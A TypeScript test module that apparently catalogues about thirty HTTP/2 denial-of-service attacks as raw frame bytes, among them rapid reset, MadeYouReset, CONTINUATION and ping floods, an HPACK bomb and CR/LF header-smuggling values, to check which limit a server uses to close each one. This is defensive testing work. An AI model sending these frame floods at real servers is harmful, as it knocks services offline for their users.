/**
 * Attacks on the HTTP/2 engine, each as bytes: what is said once, and what is
 * said again and again until the server has had enough.
 *
 * The same bytes go to the engine in memory (`http2_attacks_test.ts`: which
 * rule ends it, after how much) and to a server over sockets (`attacks.ts`: what
 * it costs, and what a neighbour feels).
 *
 * @module
 */

import { joinedBytes } from "../../proto/bytes/byte_arrays.ts";
import type { Excess } from "../../proto/streams/abuse_limits.ts";
import {
  END_HEADERS,
  END_STREAM,
  frame,
  greeting,
  grpcHead,
  indexedLiteral,
  literal,
  many,
  setting,
  settings,
  Type,
  uint32,
} from "./bytes.ts";

/** See the module description. */
export interface Http2Attack {
  readonly name: string;
  /** Where it was seen in the world. */
  readonly known: string;
  /** Said once; the connection's preface is in it. */
  opening(path: string): Uint8Array;
  /** Said for ever; `round` counts from 0. */
  again(round: number, path: string): Uint8Array;
  /** With what the server ends the connection, as RFC 9113 §7 spells it. */
  readonly code: string;
  /** What was overdone; empty when a rule was broken at once. */
  readonly excess: Excess | "";
  /** It does not read what it is answered. */
  readonly isDeaf: boolean;
}

/** Frames in one round: one write, so that the attacker is not the limit. */
export const FRAMES_PER_ROUND = 100;

/** RFC 9113 §6.5.2. */
const HEADER_TABLE_SIZE = 1;
const INITIAL_WINDOW_SIZE = 4;
/** §6.9.1. */
const WINDOW_MAX = 0x7fff_ffff;

const NONE = new Uint8Array(0);
const PING = frame(Type.PING, 0, 0, new Uint8Array(8));

/** The id of the n-th stream of an attack. */
const idOf = (index: number) => 2 * index + 1;

/** The head of a call, and its only word. */
const ASKED = END_HEADERS | END_STREAM;

const head = (index: number, path: string, flags = END_HEADERS) =>
  frame(Type.HEADERS, flags, idOf(index), grpcHead(path));

/** The same, of fields that a server does not expect. */
const fields = (index: number, block: Uint8Array, flags = END_HEADERS) =>
  frame(Type.HEADERS, flags, idOf(index), block);

const reset = (index: number) =>
  frame(Type.RST_STREAM, 0, idOf(index), uint32(8));

const window = (id: number, bytes: number) =>
  frame(Type.WINDOW_UPDATE, 0, id, uint32(bytes));

/** What is said once, and for ever. */
type Said = Pick<Http2Attack, "opening" | "again">;

/** Behind the greeting. */
const greeted = (again: Said["again"]): Said => ({
  opening: () => greeting(),
  again,
});

/** On a connection that has one call open, and what else was said. */
const called = (
  again: Said["again"],
  flags = END_HEADERS,
  behind: Uint8Array = NONE,
) => ({
  opening: (path: string) =>
    joinedBytes([greeting(), head(0, path, flags), behind]),
  again,
});

/** The same frame all the time. */
function flood(one: Uint8Array): Said {
  const round = many(FRAMES_PER_ROUND, () => one);
  return called(() => round);
}

/** One after the other, each of its own. */
const each = (make: (index: number, path: string) => Uint8Array): Said =>
  greeted((round, path) =>
    many(FRAMES_PER_ROUND, (at) => make(round * FRAMES_PER_ROUND + at, path))
  );

/** Call after call, each followed by what spoils it. */
const spoiled = (spoil: (index: number) => Uint8Array): Said =>
  each((index, path) => joinedBytes([head(index, path), spoil(index)]));

/** Call after call that has ended, and goes on. */
const afterEnd = (pathOf: (path: string) => string): Said =>
  each((index, path) =>
    joinedBytes([
      head(index, pathOf(path), ASKED),
      frame(Type.DATA, 0, idOf(index), new Uint8Array(1)),
    ])
  );

/** Calls whose windows go up and down. */
const shrinking: Said = {
  opening: (path) =>
    joinedBytes([greeting(), many(99, (index) => head(index, path))]),
  again: () =>
    many(FRAMES_PER_ROUND / 2, () =>
      joinedBytes([
        settings(setting(INITIAL_WINDOW_SIZE, 0)),
        settings(setting(INITIAL_WINDOW_SIZE, WINDOW_MAX)),
      ])),
};

/** A large entry of the table, which later calls name. */
const bomb: Said = {
  opening: () =>
    joinedBytes([
      greeting(),
      fields(
        0,
        joinedBytes([
          grpcHead("/bomb"),
          indexedLiteral("x", "y".repeat(4_000)),
        ]),
        ASKED,
      ),
    ]),
  again: (round) =>
    fields(round + 1, new Uint8Array(16_000).fill(0x80 | 62), ASKED),
};

const manySettings = Array.from(
  { length: 2_730 },
  (_, index) => setting(INITIAL_WINDOW_SIZE, index),
);
const bytes = (...values: readonly number[]) => new Uint8Array(values);
const large = frame(Type.CONTINUATION, 0, 1, literal("x", "y".repeat(16_000)));
const goaway = frame(Type.GOAWAY, 0, 0, new Uint8Array(1_000));
const data = frame(Type.DATA, 0, 1, new Uint8Array(16_384));

const CALM = "ENHANCE_YOUR_CALM";

const attack = (
  name: string,
  ...[known, code, excess, said, isDeaf = false]: [
    known: string,
    code: string,
    excess: Excess | "",
    said: Said,
    isDeaf?: boolean,
  ]
): Http2Attack => ({ name, known, code, excess, ...said, isDeaf });

/** See the module description. */
// deno-fmt-ignore: the columns are the point.
export const HTTP2_ATTACKS: readonly Http2Attack[] = [
  attack("rapid-reset", "CVE-2023-44487", CALM, "resets", spoiled(reset)),
  attack("made-you-reset", "CVE-2025-8671: WINDOW_UPDATE of 0",
    CALM, "resets", spoiled((index) => window(idOf(index), 0))),
  attack("made-you-reset-overflow", "CVE-2025-8671: a stream's window past 2^31-1",
    CALM, "resets", spoiled((index) => window(idOf(index), WINDOW_MAX))),
  attack("made-you-reset-after-end", "CVE-2025-8671: DATA behind END_STREAM",
    CALM, "resets", afterEnd((path) => path)),
  attack("made-you-reset-after-answer", "CVE-2025-8671: DATA behind END_STREAM of a call that was answered",
    CALM, "streamErrors", afterEnd(() => "/nothing")),
  attack("goaway", "GOAWAY again and again, with as much behind it as a frame holds",
    CALM, "idleFrames", greeted(() => many(100, () => goaway))),
  attack("refused-streams", "more calls than MAX_CONCURRENT_STREAMS, for ever", CALM, "resets", spoiled(() => NONE)),
  attack("continuation-empty", "CVE-2024-27316",
    CALM, "headerBlock", called(() => many(FRAMES_PER_ROUND, () => frame(Type.CONTINUATION, 0, 1)), 0)),
  attack("continuation-large", "CVE-2024-27316", CALM, "headerBlock", called(() => large, 0)),
  attack("settings", "CVE-2019-9515", CALM, "settings", flood(settings())),
  attack("settings-huge", "2,730 entries in each SETTINGS", CALM, "settings", flood(settings(...manySettings))),
  attack("ping", "CVE-2019-9512", CALM, "pings", flood(PING)),
  attack("ping-deaf", "CVE-2019-9512, answers unread", CALM, "pings", flood(PING), true),
  attack("rst-closed", "RST_STREAM for a stream that is gone",
    CALM, "idleFrames", called(() => many(FRAMES_PER_ROUND, () => reset(0)), END_HEADERS, reset(0))),
  attack("rst-idle", "RST_STREAM for a stream that never was",
    "PROTOCOL_ERROR", "", greeted((round) => reset(round + 1))),
  attack("window-update-tiny", "CVE-2019-9511 and 9517: one byte at a time",
    CALM, "tinyUpdates", flood(window(0, 1))),
  attack("window-overflow", "the connection's window past 2^31-1",
    "FLOW_CONTROL_ERROR", "", flood(window(0, WINDOW_MAX))),
  attack("window-shrink", "INITIAL_WINDOW_SIZE up and down over a hundred calls", CALM, "settings", shrinking),
  attack("window-ignored", "DATA without end, whatever the window", "FLOW_CONTROL_ERROR", "", called(() => data)),
  attack("priority", "CVE-2019-9513", CALM, "idleFrames", flood(frame(Type.PRIORITY, 0, 5, bytes(0, 0, 0, 3, 16)))),
  attack("unknown-frames", "frame types nobody knows",
    CALM, "idleFrames", flood(frame(Type.UNKNOWN, 0, 0, new Uint8Array(16)))),
  attack("data-empty", "CVE-2019-9518", CALM, "emptyData", flood(frame(Type.DATA, 0, 1))),
  attack("data-padding", "CVE-2019-9518 with padding: DATA of nothing else",
    CALM, "emptyData", flood(frame(Type.DATA, 8, 1, bytes(1, 0)))),
  attack("headers-empty", "requests without a single field", CALM, "resets", each((index) => fields(index, NONE))),
  attack("headers-malformed", "requests whose fields break §8.2 (smuggling: CR, LF, upper case)",
    CALM, "resets", each((index, path) =>
      fields(index, joinedBytes([grpcHead(path), literal("x", "a\r\nhost: b")])))),
  attack("hpack-bomb", "CVE-2016-6581: 4 KiB in the table, named 16,000 times", "COMPRESSION_ERROR", "", bomb),
  attack("hpack-garbage", "a block that names an entry there is not",
    "COMPRESSION_ERROR", "", greeted((round) => fields(round, bytes(0xff, 0xff, 0xff, 0xff, 0x0f)))),
  attack("table-size-churn", "HEADER_TABLE_SIZE up and down",
    CALM, "settings", flood(settings(setting(HEADER_TABLE_SIZE, 0), setting(HEADER_TABLE_SIZE, 0xffff_ffff)))),
  attack("frame-oversized", "a frame of 16 MiB less one",
    "FRAME_SIZE_ERROR", "", greeted(() => bytes(255, 255, 255, 0, 0, 0, 0, 0, 1))),
  attack("push-promise", "a client that pushes",
    "PROTOCOL_ERROR", "", greeted(() => frame(Type.PUSH_PROMISE, END_HEADERS, 1, uint32(2)))),
];
